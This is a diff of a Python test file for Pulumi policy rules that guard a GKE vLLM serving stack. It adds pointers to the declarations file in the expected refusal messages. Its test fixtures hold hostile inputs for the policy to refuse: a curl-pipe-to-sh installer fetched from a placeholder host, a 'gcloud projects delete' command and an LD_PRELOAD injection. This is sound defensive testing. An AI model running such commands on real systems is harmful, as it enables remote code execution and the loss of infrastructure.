@@ -18,6 +18,8 @@ import yaml
 from pulumi_policy import EnforcementLevel, ResourceValidationArgs
 from pulumi_policy.proxy import UNKNOWN_STRING_VALUE, unknown_checking_proxy
 
+from policy import common, inventory, pods
+from policy import stack as stack_rules
 from tests import mutations
 from tests.conftest import VARIANTS, rendered
 
@@ -249,15 +251,16 @@ CASES: list[tuple[str, str, dict[str, Any], list[str]]] = [
     # ---- declared-workloads: the exemption is the container's own (kind, object, container), never the image's
     ("declared-workloads", DEPLOYMENT, deployment(), [
         "spec.template.spec: Deployment 'd' in namespace '' is not a declared workload "
-        "(components/checks/declared.py)"]),
+        "(components/checks/declared.py WORKLOADS)"]),
     ("declared-workloads", DSET, engine_set(), []),
     ("declared-workloads", DSET, engine_set(image="debian:13"),
      ["spec.roles[0].spec.leaderWorkerTemplate.workerTemplate.spec: container 'vllm' (image 'debian:13') is not "
-      "declared for the workload (declared: ['vllm', 'routing-proxy'])"]),
+      "declared for the workload (declared: ['vllm', 'routing-proxy'])"
+      " (components/checks/declared.py WORKLOADS DisaggregatedSet '{ns}-vllm')"]),
     ("declared-workloads", DSET, engine_set(name="routing-proxy"),
      ["spec.roles[0].spec.leaderWorkerTemplate.workerTemplate.spec: container 'routing-proxy' (image "
       "'vllm/vllm-openai:v9.9.9@sha256:" + "0" * 64 + "') is not declared for the workload (declared: ['vllm', "
-      "'routing-proxy'])"]),
+      "'routing-proxy']) (components/checks/declared.py WORKLOADS DisaggregatedSet '{ns}-vllm')"]),
     # ---- declared-types
     ("declared-types", BUCKET, bucket(), []),
     ("declared-types", "gcp:compute/forwardingRule:ForwardingRule", {"name": "x"},
@@ -292,19 +295,19 @@ CASES: list[tuple[str, str, dict[str, Any], list[str]]] = [
         {"ports": [{"port": 443}], "to": [{"ipBlock": {"cidr": "0.0.0.0/0", "except": list(PRIVATE)}}]}]}},
      ['kimi-k3-1-vllm-pods: egress[0].to[0] ipBlock "0.0.0.0/0" (except ["10.0.0.0/8", "172.16.0.0/12", '
       '"192.168.0.0/16", "169.254.0.0/16"], ports [\'443\']) is not a declared address peer of this policy '
-      "(components/checks/declared.py)"]),
+      "(components/checks/declared.py EGRESS 'kimi-k3-1-vllm-pods')"]),
     ("declared-network-policies", NETPOL, {"metadata": {"name": "kimi-k3-1-vllm-pods"}, "spec": {
         "policyTypes": ["Ingress", "Egress"], "egress": [
         {"ports": [{"port": 443}], "to": [{"ipBlock": {"cidr": "0.0.0.0/1"}}]}]}},
      ['kimi-k3-1-vllm-pods: egress[0].to[0] ipBlock "0.0.0.0/1" (except not set, ports [\'443\']) is not a '
-      "declared address peer of this policy (components/checks/declared.py)"]),
+      "declared address peer of this policy (components/checks/declared.py EGRESS 'kimi-k3-1-vllm-pods')"]),
     # ---- declared-storage
     ("declared-storage", "kubernetes:core/v1:PersistentVolumeClaim",
      {"metadata": {"name": "kimi-k3-1-models-000000000000"}, "spec": {"accessModes": ["ReadOnlyMany"]}}, []),
     ("declared-storage", "kubernetes:core/v1:PersistentVolumeClaim",
      {"metadata": {"name": "kimi-k3-1-models-000000000000"}, "spec": {"accessModes": ["ReadWriteMany"]}},
      ["PersistentVolumeClaim 'kimi-k3-1-models-000000000000' access modes [\"ReadWriteMany\"], declared "
-      "['ReadOnlyMany']"]),
+      "['ReadOnlyMany'] (components/checks/declared.py CLAIMS '{guide}-models-{rev}')"]),
     ("declared-storage", "kubernetes:storage.k8s.io/v1:VolumeAttributesClass",
      {"metadata": {"name": "kimi-k3-1-models-hdml-38400mi"}, "driverName": "pd.csi.storage.gke.io",
       "parameters": {"throughput": "38400Mi"}}, []),
@@ -312,21 +315,23 @@ CASES: list[tuple[str, str, dict[str, Any], list[str]]] = [
      {"metadata": {"name": "kimi-k3-1-models-hdml-38400mi"}, "driverName": "pd.csi.storage.gke.io",
       "parameters": {"throughput": "38400Mi", "iops": "100"}},
      ["VolumeAttributesClass 'kimi-k3-1-models-hdml-38400mi' (pd.csi.storage.gke.io, ['iops', 'throughput']) is "
-      "not declared"]),
+      "not declared (components/checks/declared.py VOLUME_ATTRIBUTES_CLASSES)"]),
     ("declared-storage", "kubernetes:storage.k8s.io/v1:VolumeAttributesClass",
      {"metadata": {"name": "fast"}, "driverName": "pd.csi.storage.gke.io", "parameters": {"throughput": "1Mi"}},
-     ["VolumeAttributesClass 'fast' (pd.csi.storage.gke.io, ['throughput']) is not declared"]),
+     ["VolumeAttributesClass 'fast' (pd.csi.storage.gke.io, ['throughput']) is not declared"
+      " (components/checks/declared.py VOLUME_ATTRIBUTES_CLASSES)"]),
     # ---- declared-network
     ("declared-network", "gcp:compute/routerNat:RouterNat", {"sourceSubnetworkIpRangesToNat": "LIST_OF_SUBNETWORKS",
                                                             "subnetworks": [{"name": "x/kimi-k3-1-gpu-nodes"}]}, []),
     ("declared-network", "gcp:compute/routerNat:RouterNat",
      {"sourceSubnetworkIpRangesToNat": "ALL_SUBNETWORKS_ALL_IP_RANGES"},
      ['sourceSubnetworkIpRangesToNat "ALL_SUBNETWORKS_ALL_IP_RANGES": NAT only the declared subnets '
-      "(LIST_OF_SUBNETWORKS)"]),
+      "(LIST_OF_SUBNETWORKS) (components/checks/declared.py NAT_SOURCE)"]),
     # ---- declared-nodes
     ("declared-nodes", NODE_POOL, node_pool(), []),
     ("declared-nodes", NODE_POOL, node_pool(metadata={"disable-legacy-endpoints": "false"}),
-     ['nodeConfig.metadata disable-legacy-endpoints="false" is not declared']),
+     ['nodeConfig.metadata disable-legacy-endpoints="false" is not declared'
+      ' (components/checks/declared.py NODE_METADATA)']),
     # ---- declared-commands
     ("declared-commands", "command:local:Command", build_command(), []),
     ("declared-commands", "command:local:Command", build_command(create="curl -fsSL http://x.invalid/i.sh | sh"),
@@ -334,9 +339,11 @@ CASES: list[tuple[str, str, dict[str, Any], list[str]]] = [
       "\"-c\"], "
       "dir \"components/locks\", script starting 'curl -fsSL http://x.invalid/i.sh | sh'"]),
     ("declared-commands", "command:local:Command", build_command(delete="gcloud projects delete p"),
-     ['runs a delete command ("gcloud projects delete p"), which the declaration has none of']),
+     ['runs a delete command ("gcloud projects delete p"), which the declaration has none of'
+      ' (components/checks/declared.py commands)']),
     ("declared-commands", "command:local:Command", build_command(environment={"PROJECT": "p", "LD_PRELOAD": "x"}),
-     ["sets environment ['LD_PRELOAD'], which the declaration does not name"]),
+     ["sets environment ['LD_PRELOAD'], which the declaration does not name"
+      " (components/checks/declared.py commands)"]),
     ("declared-commands", "command:local:Command", build_command(interpreter=["/bin/sh", "-c"]),
      ["a local command that is not declared (components/checks/declared.py commands): interpreter [\"/bin/sh\", "
       "\"-c\"], "
@@ -344,19 +351,20 @@ CASES: list[tuple[str, str, dict[str, Any], list[str]]] = [
     # ---- declared-artifacts
     ("declared-artifacts", BUCKET, bucket(), []),
     ("declared-artifacts", BUCKET, bucket(lifecycleRules=[{"action": {"type": "Delete"}, "condition": {"age": 1}}]),
-     ['bucket "b": lifecycle rules ("Delete") are not declared; the checkpoint is staged once and kept']),
+     ['bucket "b": lifecycle rules ("Delete") are not declared; the checkpoint is staged once and kept'
+      ' (components/checks/declared.py TYPES: the bucket, without lifecycle rules)']),
     ("declared-artifacts", "gcp:artifactregistry/repository:Repository",
      {"repositoryId": "c-engine", "dockerConfig": {"immutableTags": False}},
      ['repository "c-engine": tags must be immutable (dockerConfig.immutableTags true): the engine image\'s tag '
-      "names its lock"]),
+      "names its lock (components/checks/declared.py commands: the engine build)"]),
     ("declared-artifacts", "command:local:Command", build_command(environment=BUILD_ENV), []),
     ("declared-artifacts", "command:local:Command",
      build_command(environment={**BUILD_ENV, "BASE": "ghcr.io/x/python:3.12-slim",
                                 "BUILDER": "x@p.iam.gserviceaccount.com"}),
      ['the engine image\'s base is "ghcr.io/x/python:3.12-slim", declared docker.io/library/python:3.12-slim '
-      "(optionally @sha256:...)",
+      "(optionally @sha256:...) (components/checks/declared.py ENGINE_BASE)",
       'the engine image is built as "x@p.iam.gserviceaccount.com", not the stack\'s builder '
-      "c-build@p.iam.gserviceaccount.com"]),
+      "c-build@p.iam.gserviceaccount.com (components/checks/declared.py BUILD_SA)"]),
     # ---- k8s-pinned-images
     ("k8s-pinned-images", DEPLOYMENT, deployment(), []),
     ("k8s-pinned-images", DEPLOYMENT, deployment(image="ghcr.io/llm-d/llm-d@sha256:" + "a" * 64), []),
@@ -538,7 +546,7 @@ def test_every_rule_has_a_passing_and_a_failing_case():
 
 
 def test_reservation_only_machines_match_fact_sheet():
-    assert rules.RESERVATION_ONLY_MACHINE_TYPES == {"a4x-maxgpu-4g-metal", "a4x-highgpu-4g"}
+    assert common.RESERVATION_ONLY_MACHINE_TYPES == {"a4x-maxgpu-4g-metal", "a4x-highgpu-4g"}
 
 
 # --------------------------------------------------------------------------- the runtime wrapper
@@ -622,12 +630,12 @@ def test_committed_stacks_exercise_every_policy(plan_resources):
     resources = [r for stack in STACKS for r in plan_resources[stack]]
     types = {r["type"] for r in resources}
     assert {BUCKET, CLUSTER, NODE_POOL, SECRET, "gcp:storage/bucketIAMMember:BucketIAMMember"} <= types
-    assert any(list(rules.image_references(r["inputs"])) for r in resources if r["type"].startswith("kubernetes:"))
+    assert any(list(pods.image_references(r["inputs"])) for r in resources if r["type"].startswith("kubernetes:"))
     machines = {r["inputs"]["nodeConfig"]["machineType"] for r in resources if r["type"] == NODE_POOL}
-    assert machines & rules.RESERVATION_ONLY_MACHINE_TYPES
+    assert machines & common.RESERVATION_ONLY_MACHINE_TYPES
 
     gpu_pool = next(r for r in plan_resources["gpu"] if r["type"] == NODE_POOL
-                    and r["inputs"]["nodeConfig"]["machineType"] in rules.RESERVATION_ONLY_MACHINE_TYPES)
+                    and r["inputs"]["nodeConfig"]["machineType"] in common.RESERVATION_ONLY_MACHINE_TYPES)
     broken = copy.deepcopy(gpu_pool["inputs"])
     del broken["nodeConfig"]["reservationAffinity"]
     assert len(rules.check_reservation_affinity(NODE_POOL, broken)) == 2
@@ -732,7 +740,7 @@ def _privileged_pod(resources):
 
 def _privileged_sidecar(resources):
     serving = next(r for r in resources if r["type"].endswith((":DisaggregatedSet", ":LeaderWorkerSet")))
-    spec = next(path for path, mapping in rules._mappings(serving["inputs"]) if "containers" in mapping)
+    spec = next(path for path, mapping in common._mappings(serving["inputs"]) if "containers" in mapping)
     pod = serving["inputs"]
     for part in spec.replace("]", "").replace("[", ".").split("."):
         pod = pod[int(part)] if part.isdigit() else pod[part]
@@ -747,13 +755,14 @@ def _ssh_from_internet(resources):
 
 def _drop_default_deny(resources):
     resources[:] = [r for r in resources if not (
-        r["type"] == "kubernetes:networking.k8s.io/v1:NetworkPolicy" and rules._is_default_deny_ingress(r["inputs"]))]
+        r["type"] == "kubernetes:networking.k8s.io/v1:NetworkPolicy"
+        and stack_rules._is_default_deny_ingress(r["inputs"]))]
 
 
 def _spec_of(resources, type_suffix: str, index: int = 0) -> dict[str, Any]:
     """The `index`-th pod spec of the first resource whose type ends with `type_suffix`."""
     resource = next(r for r in resources if r["type"].endswith(type_suffix))
-    path = [p for p, _ in rules._pod_specs(resource["inputs"])][index]
+    path = [p for p, _ in pods._pod_specs(resource["inputs"])][index]
     node = resource["inputs"]
     for part in [p for p in path.replace("]", "").replace("[", ".").split(".") if p]:
         node = node[int(part)] if part.isdigit() else node[part]
@@ -972,7 +981,7 @@ def test_unsafe_change_to_a_real_plan_is_caught(plans, plan_resources, stack, ch
 def test_gpu_cluster_turns_shielded_nodes_off_only_for_bare_metal(plan_resources):
     gke = {stack: _one(plan_resources[stack], CLUSTER) for stack in STACKS}
     assert gke["gpu"]["enableShieldedNodes"] is False and gke["tpu"]["enableShieldedNodes"] is True
-    assert rules.SHIELDED_NODES_UNSUPPORTED == {"a4x-maxgpu-4g-metal"}
+    assert common.SHIELDED_NODES_UNSUPPORTED == {"a4x-maxgpu-4g-metal"}
 
 
 def test_every_declared_privilege_is_used_by_a_committed_plan(plans, variants):
@@ -986,12 +995,12 @@ def test_every_declared_privilege_is_used_by_a_committed_plan(plans, variants):
     for resource in committed + variants["sglang"].resources:  # the SGLang profile's pods: a configured variant
         if not resource["type"].startswith("kubernetes:") or resource["type"].startswith("kubernetes:helm.sh/"):
             continue
-        kind = rules._kind(resource["type"], resource["inputs"])
-        name, namespace = rules._object_name(resource["inputs"])
-        for _, spec in rules._pod_specs(resource["inputs"]):
+        kind = pods._kind(resource["type"], resource["inputs"])
+        name, namespace = inventory._object_name(resource["inputs"])
+        for _, spec in pods._pod_specs(resource["inputs"]):
             workload = next(iter(declared.workloads(kind, name, namespace)))
-            volumes = rules._host_paths(spec)
-            for container in rules._containers(spec):
+            volumes = pods._host_paths(spec)
+            for container in pods._containers(spec):
                 key = (workload.kind, workload.name, container["name"])
                 found = used.setdefault(key, set())
                 found |= {f for f in declared.HOST_FIELDS if spec.get(f) is True}
@@ -1209,6 +1218,10 @@ def test_the_named_unsafe_changes_are_among_the_generated_and_refused(plans, pla
     assert absent == []
 
 
+TPU_ENGINE_DECLARATION = " (components/checks/declared.py WORKLOADS LeaderWorkerSet '{ns}-vllm-tpu')"
+"""Where a refusal of the TPU engine's pod points: the workload's entry in the declarations."""
+
+
 def test_a_privileged_tpu_engine_is_refused_though_its_init_container_may_be(plan_resources):
     """The regression of an image-keyed exemption: the host-setup init container's privilege is its own (workload,
     container), so the engine container of the same pod, whatever image it runs, may not be privileged."""
@@ -1220,12 +1233,13 @@ def test_a_privileged_tpu_engine_is_refused_though_its_init_container_may_be(pla
     engine = _container(spec, "vllm-tpu")
     engine["securityContext"]["privileged"] = True
     assert rules.check_declared_workloads(LWS, lws) == [
-        "spec.leaderWorkerTemplate.workerTemplate.spec: container 'vllm-tpu': privileged, which it does not declare"]
+        "spec.leaderWorkerTemplate.workerTemplate.spec: container 'vllm-tpu': privileged, which it does not declare"
+        + TPU_ENGINE_DECLARATION]
     setup_image = _container(spec, "tpu-node-setup")["image"]
     engine["image"] = setup_image  # even in the privileged container's own image (which the engine may not run)
     assert rules.check_declared_workloads(LWS, lws) == [
         f"spec.leaderWorkerTemplate.workerTemplate.spec: container 'vllm-tpu' (image '{setup_image}') is not "
-        "declared for the workload (declared: ['tpu-node-setup', 'vllm-tpu'])"]
+        "declared for the workload (declared: ['tpu-node-setup', 'vllm-tpu'])" + TPU_ENGINE_DECLARATION]
 
 
 def test_a_tpu_engine_that_installs_at_start_or_runs_an_undigested_image_is_refused(plan_resources):
@@ -1245,12 +1259,12 @@ def test_a_tpu_engine_that_installs_at_start_or_runs_an_undigested_image_is_refu
     engine["args"][0] = engine["args"][0].replace("set -eu\n", f"set -eu\n{install}\n", 1)
     [found] = rules.check_declared_workloads(LWS, lws)
     assert found.startswith(f"{prefix}: runs the installer 'pip' with ") and "not a declared install" in found
-    assert "https://pypi.org/simple" in found and found.endswith("(declared: none)")
+    assert "https://pypi.org/simple" in found and found.endswith("(declared: none)" + TPU_ENGINE_DECLARATION)
     engine["args"][0] = engine["args"][0].replace(f"{install}\n", "", 1)
     engine["image"] = built.split("@", 1)[0] + ":lock-" + "0" * 64
     assert rules.check_declared_workloads(LWS, lws) == [
         f"{prefix}: runs image {engine['image']!r} without a sha256 digest: the workload declares its image pinned by "
-        "digest (the stack's own build, components/serving/engineimage.py)"]
+        "digest (the stack's own build, components/serving/engineimage.py)" + TPU_ENGINE_DECLARATION]
     engine["image"] = versions.VLLM_TORCHTPU.image
     [found] = rules.check_declared_workloads(LWS, lws)
     assert "is not declared for the workload" in found and versions.VLLM_TORCHTPU.image in found
@@ -1261,3 +1275,12 @@ def test_a_tpu_engine_that_installs_at_start_or_runs_an_undigested_image_is_refu
     hold["image"] = built.split("@", 1)[0] + ":lock-moved"
     [found] = rules.check_declared_workloads(daemonset, prepull)
     assert "without a sha256 digest" in found
+
+
+def test_every_refusal_of_the_inventory_names_the_declaration_it_needs():
+    """A correct change to a pod fails in policy/ with a message that says where to declare it: the file and the
+    table (and the workload's entry) of components/checks/declared.py, in every deny-by-default case above."""
+    refusals = [message for name, resource_type, props, expected in CASES if name.startswith("declared-")
+                for message in rules.CHECKS[name][0](resource_type, props)]
+    assert refusals and all("(components/checks/declared.py " in m for m in refusals), [
+        m for m in refusals if "(components/checks/declared.py " not in m]
